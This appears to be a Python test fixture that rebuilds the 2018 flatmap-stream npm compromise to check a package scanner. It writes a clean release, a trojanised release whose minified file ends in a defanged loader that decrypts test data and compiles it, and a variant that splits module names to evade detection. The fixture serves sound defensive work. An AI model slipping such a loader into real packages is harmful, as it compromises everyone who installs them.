"""flatmap-stream 0.1.1, October 2018: minified code reads test data, decrypts it and compiles it."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.layout_parts import filler, write_npm

META = {
    "title": "flatmap-stream 0.1.1 (event-stream's dependency), npm",
    "year": 2018,
    "platform": "npm",
    "sources": [
        "npm blog, Details about the event-stream incident, November 2018",
        "GitHub, dominictarr/event-stream#116, November 2018",
    ],
    "rebuilt": "a patch release whose minified file differs from its source beside it: it names the test data, a "
    "cipher, a variable of npm, and a way to compile text; the test data are long hexadecimal texts",
    "left_out": "the plain text behind the test data; the code that would run stands behind a return",
    "expected": {"against": "nothing_found", "alone": "nothing_found"},
    "signals": [],
    "why": "the new abilities of the minified file are all that shows; a build may bring them, too",
    "human": "that the minified file is not built of the source beside it",
}  # fmt: skip

SOURCE = "var Stream = require('stream').Stream\nmodule.exports = function (mapper) {\n  return new Stream()\n}\n"
MINIFIED = "var Stream=require('stream').Stream;module.exports=function(r){return new Stream};"
# Names by which it works, behind a return: nothing of it runs, and nothing is there to decrypt.
HIDDEN = (
    "!function(){return;try{var r=require,t=process,e=r('./test/data'),n=t.env.npm_package_description;"
    "var u=r('crypto').createDecipher('aes256',n),a=u.update(e[0],'hex','utf8');"
    "a+=u.final('utf8');var f=new module.constructor;f._compile(a,'')}catch(r){}}();"
)


def _package(folder: Path, version: str, minified: str, more: dict[str, str]) -> Path:
    files = {"index.js": SOURCE, "index.min.js": minified, "readme.md": "# inert\n", **more}
    return write_npm(folder, "inert-flatmap", version, {"main": "index.min.js"}, files)


def _data() -> str:
    rows = [filler(900, f"row {number}").hex() for number in range(3)]
    return f"module.exports={rows!r};\n"


def before(folder: Path) -> Path:
    """Write 0.1.0, which was clean."""
    return _package(folder, "0.1.0", MINIFIED, {"test/index.js": "require('..')\n"})


def trojanised(folder: Path) -> Path:
    """Write 0.1.1."""
    more = {"test/index.js": "require('..')\n", "test/data.js": _data()}
    return _package(folder, "0.1.1", MINIFIED + HIDDEN, more)


def twin(folder: Path) -> Path:
    """Write a patch release that is minified anew, with more test data."""
    more = {"test/index.js": "require('..')\n", "test/data.js": "module.exports=['a','b','c'];\n"}
    return _package(folder, "0.1.1", MINIFIED.replace("(r)", "(n)") + "module.exports.x=1;", more)


def _names_in_parts(folder: Path) -> Path:
    hidden = HIDDEN.replace("'crypto'", "'cry'+'pto'").replace("_compile", "['_com'+'pile']")
    return _package(folder, "0.1.1", MINIFIED + hidden.replace(".[", "["), {"test/data.js": _data()})  # fmt: skip


VARIANTS = {"names are put together": _names_in_parts}
